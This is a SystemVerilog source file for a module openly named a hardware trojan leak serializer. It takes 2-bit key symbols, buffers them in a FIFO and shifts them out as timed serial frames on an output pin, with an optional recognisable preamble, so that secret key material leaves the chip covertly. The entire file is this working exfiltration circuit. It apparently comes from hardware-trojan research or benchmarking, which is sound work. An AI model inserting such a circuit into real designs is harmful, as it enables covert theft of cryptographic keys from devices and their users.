// File: rtl/trojan_leak_serializer.sv
// trojan_leak_serializer: buffers 2-bit key symbols in a FIFO and shifts them out
// one bit at a time on a registered serial line. Each bit is held DIV cycles.
// A frame is sent back-to-back while symbols remain, then a 2-bit-time low gap.
// Optional feature macro: LEAK_PREAMBLE_EN adds an 8-bit preamble (8'b1010_0101,
// MSB first) at the start of every frame.
module trojan_leak_serializer #(
    parameter int unsigned DEPTH = 32,
    parameter int unsigned DIV   = 4
) (
    input  logic       clk,
    input  logic       rst_all,
    input  logic       enable,
    input  logic [1:0] K,
    output logic       out,
    output logic       busy,
    output logic       ovf
);

    localparam int unsigned AW = (DEPTH > 1) ? $clog2(DEPTH) : 1;
    localparam int unsigned CW = $clog2(DEPTH + 1);
    localparam logic [CW-1:0] CountFull = CW'(DEPTH);
    localparam logic [7:0] HoldInit = 8'(DIV - 1);
`ifdef LEAK_PREAMBLE_EN
    localparam logic [7:0] Preamble = 8'b1010_0101;
`endif

    typedef enum logic [1:0] {
        StIdle,
`ifdef LEAK_PREAMBLE_EN
        StPre,
`endif
        StData,
        StGap
    } state_e;

    state_e        state_q, state_d;
    logic [7:0]    hold_q, hold_d;
    // Half index: selects K[0]/K[1] in StData and the first/second gap half in StGap
    logic          bit_q, bit_d;
    logic [1:0]    sym_q, sym_d;
    logic          out_q, out_d;
    logic          ovf_q;
    logic [1:0]    mem_q [DEPTH];
    logic [AW-1:0] rd_ptr_q, wr_ptr_q;
    logic [CW-1:0] count_q, count_d;
`ifdef LEAK_PREAMBLE_EN
    logic [2:0]    pre_idx_q, pre_idx_d;
`endif

    logic       pop;
    logic       fifo_empty;
    logic       fifo_full;
    logic       wr_en;
    logic       drop;
    logic [1:0] head;

    assign fifo_empty = (count_q == '0);
    assign fifo_full  = (count_q == CountFull);
    assign head       = mem_q[rd_ptr_q];
    // A same-cycle pop frees a slot, so a write to a full FIFO still lands
    assign wr_en      = enable && (!fifo_full || pop);
    assign drop       = enable && fifo_full && !pop;

    // Serializer next-state, FIFO pop and next serial bit
    always_comb begin
        state_d   = state_q;
        hold_d    = hold_q;
        bit_d     = bit_q;
        sym_d     = sym_q;
        out_d     = 1'b0;
        pop       = 1'b0;
`ifdef LEAK_PREAMBLE_EN
        pre_idx_d = pre_idx_q;
`endif
        case (state_q)
            StIdle: begin
                if (!fifo_empty) begin
                    hold_d = HoldInit;
`ifdef LEAK_PREAMBLE_EN
                    state_d   = StPre;
                    pre_idx_d = 3'd7;
`else
                    pop     = 1'b1;
                    sym_d   = head;
                    bit_d   = 1'b0;
                    state_d = StData;
`endif
                end
            end
`ifdef LEAK_PREAMBLE_EN
            StPre: begin
                out_d = Preamble[pre_idx_q];
                if (hold_q != '0) begin
                    hold_d = hold_q - 8'd1;
                end else begin
                    hold_d = HoldInit;
                    if (pre_idx_q == '0) begin
                        pop     = 1'b1;
                        sym_d   = head;
                        bit_d   = 1'b0;
                        state_d = StData;
                    end else begin
                        pre_idx_d = pre_idx_q - 3'd1;
                    end
                end
            end
`endif
            StData: begin
                out_d = bit_q ? sym_q[1] : sym_q[0];
                if (hold_q != '0) begin
                    hold_d = hold_q - 8'd1;
                end else begin
                    hold_d = HoldInit;
                    if (!bit_q) begin
                        bit_d = 1'b1;
                    end else if (!fifo_empty) begin
                        // Chain the next symbol with no idle cycle in between
                        pop   = 1'b1;
                        sym_d = head;
                        bit_d = 1'b0;
                    end else begin
                        bit_d   = 1'b0;
                        state_d = StGap;
                    end
                end
            end
            StGap: begin
                if (hold_q != '0) begin
                    hold_d = hold_q - 8'd1;
                end else if (!bit_q) begin
                    hold_d = HoldInit;
                    bit_d  = 1'b1;
                end else begin
                    bit_d   = 1'b0;
                    state_d = StIdle;
                end
            end
            default: state_d = StIdle;
        endcase
    end

    // FIFO occupancy update from the write/pop pair
    always_comb begin
        case ({wr_en, pop})
            2'b10:   count_d = count_q + 1'b1;
            2'b01:   count_d = count_q - 1'b1;
            default: count_d = count_q;
        endcase
    end

    // FSM, FIFO pointers and output registers; reset aborts any frame in flight
    always_ff @(posedge clk) begin
        if (rst_all) begin
            state_q   <= StIdle;
            hold_q    <= '0;
            bit_q     <= 1'b0;
            sym_q     <= '0;
            out_q     <= 1'b0;
            ovf_q     <= 1'b0;
            rd_ptr_q  <= '0;
            wr_ptr_q  <= '0;
            count_q   <= '0;
`ifdef LEAK_PREAMBLE_EN
            pre_idx_q <= '0;
`endif
        end else begin
            state_q   <= state_d;
            hold_q    <= hold_d;
            bit_q     <= bit_d;
            sym_q     <= sym_d;
            out_q     <= out_d;
            count_q   <= count_d;
`ifdef LEAK_PREAMBLE_EN
            pre_idx_q <= pre_idx_d;
`endif
            if (drop) ovf_q <= 1'b1;
            if (pop) rd_ptr_q <= rd_ptr_q + 1'b1;
            if (wr_en) wr_ptr_q <= wr_ptr_q + 1'b1;
        end
    end

    // FIFO storage; reset only clears pointers, so contents need no reset
    always_ff @(posedge clk) begin
        if (!rst_all && wr_en) mem_q[wr_ptr_q] <= K;
    end

    assign out  = out_q;
    assign ovf  = ovf_q;
    assign busy = (state_q != StIdle) || !fifo_empty;

endmodule
